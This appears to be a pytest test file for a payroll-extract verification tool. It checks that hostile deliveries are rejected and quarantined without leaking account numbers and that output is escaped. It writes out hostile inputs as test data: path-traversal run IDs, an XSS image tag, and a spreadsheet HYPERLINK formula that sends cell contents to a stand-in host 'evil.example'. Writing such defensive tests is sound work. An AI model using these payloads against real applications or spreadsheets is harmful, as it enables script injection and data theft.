"""Hostile deliveries (issue #15, failures 1-3): unsafe names in the manifest, a manifest
nested 100,000 deep, an IBAN shifted into another column. Each is driven through
`paywatch verify` as a subprocess on a small valid extract with one thing broken, and must
end as a contract rejection: exit 2, one stderr line, no traceback, the delivery kept in a
safely named quarantine folder with REASON.txt, a 'rejected' row in the delivery log, and
no account number in any message."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from extract_fixture import DEFAULT_FILES, write_run
from paywatch.extract.model import ExtractError
from paywatch.extract.reader import parse_manifest, read_run
from paywatch.privacy import IBAN_RE, mask_iban, mask_ibans_in
from paywatch.warehouse.load import quarantine
from test_verify_cli import MESSAGE_RE, describe, query, verify

# The contract's patterns (docs/extract-format.md "manifest.json", revised December 2026), written
# out again here rather than imported: the test must not share the reader's mistakes.
CONTRACT_RUN_ID = re.compile(r"(?!\.)[A-Za-z0-9._-]{1,64}")
CONTRACT_AREA = re.compile(r"[A-Z0-9]{1,8}")
QUARANTINE_NAME = re.compile(r"[0-9]{8}T[0-9]{6}\.[0-9]{6}Z-[A-Za-z0-9_-][A-Za-z0-9._-]{0,63}(-[0-9]+)?")

IBAN = "CH9300762011623852957"  # PA0009 of the fixture: staff 10000001's account
OTHER_IBAN = "DE89370400440532013000"  # in no fixture row: only where the test puts it


def spaced(iban: str) -> str:
    return " ".join(iban[i : i + 4] for i in range(0, len(iban), 4))


# ------------------------------------------------------------------------------ helpers


def rejected(tmp_path: Path, folder: Path):
    """Verify `folder` into a fresh warehouse and check everything a rejection must be.
    Returns (message, quarantine entry, last delivery row)."""
    db = tmp_path / "wh" / "warehouse.duckdb"
    db.parent.mkdir(parents=True, exist_ok=True)
    p: subprocess.CompletedProcess = verify(folder, db, db.parent / "out")
    assert p.returncode == 2, describe(p)
    assert "Traceback" not in p.stderr, describe(p)
    lines = p.stderr.splitlines()
    assert len(lines) == 1, describe(p)
    msg = lines[0]
    assert MESSAGE_RE.match(msg), msg
    qdir = db.parent / "quarantine"
    entries = [e for e in qdir.iterdir()] if qdir.is_dir() else []
    assert len(entries) == 1 and entries[0].is_dir(), entries
    entry = entries[0]
    assert QUARANTINE_NAME.fullmatch(entry.name), entry.name
    assert entry.resolve().parent == qdir.resolve()
    reason = (entry / "REASON.txt").read_text(encoding="utf-8")
    assert reason.splitlines()[0] == msg
    # the delivery as received, byte for byte
    assert (entry / "manifest.json").read_bytes() == (folder / "manifest.json").read_bytes()
    for name in DEFAULT_FILES:
        assert (entry / name).read_bytes() == (folder / name).read_bytes(), name
    rows = query(db, "SELECT outcome, run_id, reason, quarantine_path FROM deliveries ORDER BY delivery_id")
    assert len(rows) == 1 and rows[0][0] == "rejected", rows
    assert rows[0][2] == msg and Path(rows[0][3]) == entry, rows
    assert query(db, "SELECT count(*) FROM runs") == [(0,)]
    assert not (db.parent / "out" / "exceptions.csv").exists()
    return msg, entry, rows[0], p


# ------------------------------------------------------------------------------ 1. unsafe names


UNSAFE_RUN_IDS = {
    "slash": "GV/../../escaped",
    "backslash": "GV\\..\\escaped",
    "dotdot": "..",
    "leading_dot": ".hidden",
    "too_long_65": "R" * 65,
    "too_long_300": "GV-" + "9" * 297,
    "space": "GV 202503",
    "newline": "GV-1\nsecond line",
    "right_to_left": "GV-\u202eFINAL",
    "nul": "GV\x00",
}


@pytest.mark.parametrize("case", list(UNSAFE_RUN_IDS))
def test_unsafe_run_id_is_rejected_and_quarantined_as_unknown(tmp_path, case):
    run_id = UNSAFE_RUN_IDS[case]
    folder = write_run(tmp_path / "landing" / "delivery", manifest_overrides={"run_id": run_id})
    msg, entry, row, _ = rejected(tmp_path, folder)
    assert msg.startswith("manifest.json:-:run_id: "), msg
    # never a path built from the unsafe name: the folder is 'unknown', the log has no run_id
    assert entry.name.endswith("-unknown"), entry.name
    assert row[1] is None, row
    assert not list(tmp_path.rglob("escaped")) and not list(tmp_path.rglob(".hidden"))


@pytest.mark.parametrize("area", ["gv", "GV-1", "GV/..", "ABCDEFGHI", "G V", "ÄB"])
def test_unsafe_payroll_area_is_rejected(tmp_path, area):
    folder = write_run(tmp_path / "landing" / "d", manifest_overrides={"payroll_area": area})
    msg, entry, row, _ = rejected(tmp_path, folder)
    assert msg.startswith("manifest.json:-:payroll_area: "), msg
    # the run_id was fine and already checked: it names the quarantine and the log row
    assert entry.name.endswith("-GV-202503-SIM1") and row[1] == "GV-202503-SIM1", (entry, row)


def test_longest_safe_run_id_is_accepted(tmp_path):
    run_id = "a..b_C-" + "9" * 57  # 64 characters, dots inside are allowed
    folder = write_run(tmp_path / "d", manifest_overrides={"run_id": run_id, "payroll_area": "GV12ABCD"})
    ex = read_run(folder)
    assert ex.manifest.run_id == run_id and ex.manifest.payroll_area == "GV12ABCD"


# ------------------------------------------------------------------------------ 2. deep nesting


def _deep_manifest(folder: Path, depth: int = 100_000) -> None:
    data = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    head = json.dumps(data)[:-1]  # the valid manifest, then one more key nested `depth` deep
    (folder / "manifest.json").write_text(head + ', "a": ' + "[" * depth + "]" * depth + "}")


def test_manifest_nested_100000_deep_is_rejected_and_quarantined(tmp_path):
    folder = write_run(tmp_path / "landing" / "deep")
    _deep_manifest(folder)
    msg, entry, row, _ = rejected(tmp_path, folder)
    assert msg.startswith("manifest.json:-:-: not valid JSON: nested"), msg
    assert entry.name.endswith("-unknown") and row[1] is None


def test_deep_nesting_alone_is_rejected_too(tmp_path):
    folder = write_run(tmp_path / "d")
    (folder / "manifest.json").write_text('{"a":' + "[" * 100_000 + "]" * 100_000 + "}")
    with pytest.raises(ExtractError) as info:
        read_run(folder)
    assert (info.value.file, info.value.line, info.value.run_id) == ("manifest.json", None, None)


def test_oversized_manifest_is_rejected_without_parsing(tmp_path):
    folder = write_run(tmp_path / "d")
    data = json.loads((folder / "manifest.json").read_text())
    data["padding"] = "x" * (2 << 20)
    (folder / "manifest.json").write_text(json.dumps(data))
    with pytest.raises(ExtractError, match="too large") as info:
        read_run(folder)
    assert info.value.file == "manifest.json"


def test_quarantine_takes_the_run_id_from_the_error_never_from_the_manifest(tmp_path):
    # a manifest that would break any parser: quarantine must not even try
    folder = write_run(tmp_path / "d")
    (folder / "manifest.json").write_bytes(b'{"run_id": "FROM-FILE", "x": ' + b"[" * 200_000)
    err = ExtractError("RT.csv", 3, "WAERS", "broken", run_id="GV-202503-SIM1")
    target = quarantine(folder, err, tmp_path / "q")
    assert target.name.endswith("-GV-202503-SIM1"), target
    assert "run_id: GV-202503-SIM1" in (target / "REASON.txt").read_text()
    unknown = quarantine(folder, ExtractError("manifest.json", None, None, "bad"), tmp_path / "q")
    assert unknown.name.endswith("-unknown") and "FROM-FILE" not in unknown.name


def test_csv_errors_carry_the_validated_run_id(tmp_path):
    rt = DEFAULT_FILES["RT.csv"].replace(",USD,", ",EUR,", 1)
    folder = write_run(tmp_path / "d", files={"RT.csv": rt})
    with pytest.raises(ExtractError) as info:
        read_run(folder)
    assert info.value.run_id == "GV-202503-SIM1"
    assert pickle_roundtrip(info.value).run_id == "GV-202503-SIM1"


def pickle_roundtrip(e: ExtractError) -> ExtractError:
    import pickle

    return pickle.loads(pickle.dumps(e))


# ------------------------------------------------------------------------------ 3. no IBAN leaks


def _shift(text: str, line: int, column: str, value: str) -> str:
    """`text` (a fixture CSV) with the cell at data line `line`, `column` set to `value`."""
    rows = text.splitlines()
    header = rows[0].split(",")
    cells = rows[line].split(",")
    cells[header.index(column)] = f'"{value}"' if " " in value else value
    rows[line] = ",".join(cells)
    return "\n".join(rows) + "\n"


IBAN_SHIFTS = {
    "rt_waers": ("RT.csv", "WAERS", IBAN),
    "rt_pernr": ("RT.csv", "PERNR", IBAN),
    "pa0009_waers": ("PA0009.csv", "WAERS", IBAN),
    "pa0009_pernr": ("PA0009.csv", "PERNR", IBAN),
    "rt_waers_spaced": ("RT.csv", "WAERS", spaced(OTHER_IBAN)),
    "rt_pernr_lower": ("RT.csv", "PERNR", OTHER_IBAN.lower()),
    "rt_waers_glued": ("RT.csv", "WAERS", "USD" + OTHER_IBAN),
    "t512w_class": ("T512W.csv", "CLASS", OTHER_IBAN),
}


def _leaks(text: str, iban: str) -> list[str]:
    compact = iban.replace(" ", "").upper()
    flat = text.replace(" ", "").upper()
    found = [compact] if compact in flat else []
    return found + IBAN_RE.findall(text)


@pytest.mark.parametrize("case", list(IBAN_SHIFTS))
def test_iban_shifted_into_another_column_is_rejected_without_showing_it(tmp_path, case):
    file, column, iban = IBAN_SHIFTS[case]
    folder = write_run(tmp_path / "landing" / "d",
                       files={file: _shift(DEFAULT_FILES[file], 1, column, iban)})
    msg, entry, row, p = rejected(tmp_path, folder)
    assert msg.startswith(f"{file}:2:{column}: "), msg
    assert entry.name.endswith("-GV-202503-SIM1") and row[1] == "GV-202503-SIM1"
    assert not _leaks(p.stderr + p.stdout, iban), p.stderr
    assert not _leaks((entry / "REASON.txt").read_text(encoding="utf-8"), iban)
    # the whole delivery log, every column as text
    db = tmp_path / "wh" / "warehouse.duckdb"
    log = "\n".join(map(str, query(db, "SELECT * FROM deliveries")))
    assert not _leaks(log, iban), log
    # any log file Paywatch wrote, anywhere but the received files themselves
    for f in tmp_path.rglob("*"):
        if f.is_file() and f.suffix in (".log", ".txt", ".json") and "landing" not in f.parts \
                and not (f.parent == entry and f.name != "REASON.txt"):
            assert not _leaks(f.read_text(encoding="utf-8", errors="replace"), iban), f


def test_bank_column_values_never_appear_in_a_message(tmp_path):
    # a quote inside the IBAN field breaks the dialect there: the message names the column only
    pa0009 = DEFAULT_FILES["PA0009.csv"].replace(IBAN, 'CH93"0076' + IBAN[8:])
    folder = write_run(tmp_path / "d", files={"PA0009.csv": pa0009})
    with pytest.raises(ExtractError) as info:
        read_run(folder)
    assert info.value.one_line().startswith("PA0009.csv:2:IBAN: ")
    assert "0076" not in info.value.one_line() and IBAN[-8:] not in info.value.one_line()


def test_extract_error_masks_ibans_wherever_the_text_comes_from():
    e = ExtractError("-", None, None, f"run folder '/in/{IBAN}' does not exist")
    assert IBAN not in e.one_line() and IBAN not in str(e) and IBAN not in e.reason
    assert mask_iban(IBAN) in e.one_line()


@pytest.mark.parametrize("text", [IBAN, OTHER_IBAN, spaced(OTHER_IBAN), IBAN.lower(),
                                  "NO9386011117947", "NO93 8601 1117 947", "MT84MALT011000012345MTLCAST001S"])
def test_iban_shapes_are_masked(text):
    masked = mask_ibans_in(f"paid to {text}.")
    assert text not in masked and masked.endswith(text[-4:] + "."), masked
    assert not IBAN_RE.search(masked)


@pytest.mark.parametrize("text", ["GV-202503-SIM1", "PA0009.csv", "AB12 3456 7890", "a" * 64,
                                  "ab12" * 16, "manifest.json:-:run_id: 'x'"])
def test_what_is_not_an_iban_is_left_alone(text):
    assert mask_ibans_in(text) == text


# ------------------------------------------------------------------------------ properties


_BASE = {"format_version": "1.0", "payroll_area": "GV", "period": "202503", "run_type": "SIM1",
         "pay_date": "20250325", "extracted_at": "2025-03-10T06:00:00Z"}
_FILES = {name: {"rows": 0, "sha256": "0" * 64} for name in DEFAULT_FILES}

_NAMES = st.one_of(
    st.text(max_size=80),
    st.text(alphabet="AZaz09._-/\\ ", min_size=1, max_size=70),
    st.from_regex(r"[A-Za-z0-9._-]{1,66}", fullmatch=True),
)


def _manifest(**fields) -> bytes:
    return json.dumps({**_BASE, "files": _FILES, **fields}).encode("utf-8")


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(run_id=_NAMES)
def test_run_id_accepted_exactly_when_the_contract_allows(run_id):
    try:
        m = parse_manifest(_manifest(run_id=run_id))
    except ExtractError as e:
        assert not CONTRACT_RUN_ID.fullmatch(run_id), (run_id, e.one_line())
        assert e.file == "manifest.json" and e.line is None and e.column == "run_id"
        assert e.run_id is None and "\n" not in e.one_line()
    else:
        assert CONTRACT_RUN_ID.fullmatch(run_id), run_id
        assert m.run_id == run_id


@settings(max_examples=200, deadline=None)
@given(area=st.one_of(st.text(max_size=12), st.from_regex(r"[A-Z0-9]{1,9}", fullmatch=True)))
def test_payroll_area_accepted_exactly_when_the_contract_allows(area):
    try:
        m = parse_manifest(_manifest(run_id="GV-1", payroll_area=area))
    except ExtractError as e:
        assert not CONTRACT_AREA.fullmatch(area), area
        assert (e.file, e.column, e.run_id) == ("manifest.json", "payroll_area", "GV-1")
    else:
        assert CONTRACT_AREA.fullmatch(area) and m.payroll_area == area


@settings(max_examples=100, deadline=None)
@given(data=st.one_of(st.binary(max_size=200),
                      st.integers(0, 5000).map(lambda n: b'{"a":' + b"[" * n + b"]" * n + b"}"),
                      st.integers(0, 5000).map(lambda n: b"[" * n)))
def test_any_manifest_bytes_give_a_manifest_or_an_extract_error(data):
    try:
        parse_manifest(data)
    except ExtractError as e:
        assert e.file == "manifest.json" and "\n" not in e.one_line()


# ------------------------------------------------------------------------------ 4. script and formula text

XSS = "<img src=x onerror=alert(7)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _xlsx_texts(path: Path) -> tuple[list[str], int]:
    """Every text cell of a workbook (shared and inline strings) and the number of formulas."""
    texts, formulas = [], 0
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith(".xml"):
                continue
            root = ElementTree.fromstring(z.read(name))
            texts += ["".join(si.itertext()) for si in root.iter(f"{{{_NS['m']}}}si")]
            texts += ["".join(t.itertext()) for t in root.iter(f"{{{_NS['m']}}}is")]
            formulas += sum(1 for _ in root.iter(f"{{{_NS['m']}}}f"))
    return texts, formulas


@pytest.mark.parametrize("werks", [XSS, FORMULA])
def test_hostile_duty_station_is_a_finding_escaped_in_every_page_and_never_a_formula(tmp_path, werks):
    """WERKS holding script or formula text for one staff member: the run is processed (exit
    0, a PW141 finding on that staff member — not a stopped run), no .html Paywatch writes
    (Data Docs included) carries the value unescaped, and no workbook cell is a formula or
    starts like one."""
    quoted = '"' + werks.replace('"', '""') + '"'
    files = {"PA0001.csv": DEFAULT_FILES["PA0001.csv"].replace('"Dupont, Marie",GVA', f'"Dupont, Marie",{quoted}')}
    folder = write_run(tmp_path / "run", files=files)
    db = tmp_path / "wh" / "warehouse.duckdb"
    db.parent.mkdir()
    p = verify(folder, db, tmp_path / "out")
    assert p.returncode == 0, describe(p)
    rows = (tmp_path / "out" / "exceptions.csv").read_text(encoding="utf-8").splitlines()
    assert any(",PW141,unknown_duty_station," in r and r.split(",")[1] == "10000001" for r in rows), rows
    pages = [f for root in (tmp_path / "out", db.parent) for f in root.rglob("*.html")]
    assert any("data_docs" in f.parts for f in pages) and len(pages) > 5
    for page in pages:
        text = page.read_text(encoding="utf-8", errors="replace")
        assert werks not in text, page
        assert "<img src=x" not in text, page
    books = [f for root in (tmp_path / "out", db.parent) for f in root.rglob("*.xlsx")]
    assert books
    for book in books:
        texts, formulas = _xlsx_texts(book)
        assert formulas == 0, book
        assert not [t for t in texts if t.startswith(FORMULA_START)], book


def test_every_data_docs_value_is_escaped_before_gx_renders_it():
    import polars as pl

    from paywatch.dq.runner import _plain, html_safe

    f = pl.DataFrame({"duty_station": [XSS, "GVA", "a&b"], "n": [1, 2, 3]})
    safe = html_safe(f)
    assert safe["duty_station"].to_list() == ["&lt;img src=x onerror=alert(7)&gt;", "GVA", "a&amp;b"]
    assert safe["n"].to_list() == [1, 2, 3]
    assert _plain(safe["duty_station"].to_list()) == f["duty_station"].to_list()


# ------------------------------------------------------------------------------ 5. file modes


def _modes(root: Path) -> list[str]:
    bad = []
    for p in [root, *root.rglob("*")]:
        mode = p.lstat().st_mode & 0o777
        if p.is_dir() and mode != 0o700 or p.is_file() and mode != 0o600:
            bad.append(f"{oct(mode)} {p}")
    return bad


def test_simulate_writes_owner_only_files(tmp_path):
    out = tmp_path / "sim"
    p = subprocess.run([sys.executable, "-m", "paywatch.cli", "simulate", "--out", str(out), "--staff", "40",
                        "--months", "1"], capture_output=True, text=True, timeout=600)
    assert p.returncode == 0, p.stderr[-2000:]
    assert (out / "truth.csv").exists() and (out / "runs.txt").exists()
    assert _modes(out) == []


def test_monthly_close_and_verify_write_owner_only_files(tmp_path):
    sample = Path(__file__).resolve().parent.parent / "data_samples" / "gv-300"
    runs = (sample / "runs.txt").read_text().split()
    db = tmp_path / "home" / "warehouse.duckdb"
    for name in runs[: runs.index("GV-202512-FINAL") + 1]:
        p = subprocess.run([sys.executable, "-m", "paywatch.cli", "verify", str(sample / name), "--db", str(db)],
                           capture_output=True, text=True, timeout=600)
        assert p.returncode == 0, p.stderr[-2000:]
    p = subprocess.run([sys.executable, "-m", "paywatch.cli", "close", "202512", "--db", str(db)],
                       capture_output=True, text=True, timeout=600)
    assert p.returncode == 0, p.stderr[-2000:]
    assert list((db.parent / "reports").glob("*-close/monthly_summary.html"))
    assert _modes(db.parent) == []
